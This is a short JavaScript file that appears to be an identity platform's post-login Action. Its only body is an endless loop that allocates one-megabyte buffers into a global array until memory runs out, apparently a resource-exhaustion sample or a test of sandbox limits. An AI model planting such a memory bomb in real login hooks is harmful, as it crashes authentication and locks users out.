exports.onExecutePostLogin = async function (event, api) {
  globalThis.kept = globalThis.kept || []; for (;;) kept.push(Buffer.alloc(1e6, 1));
};
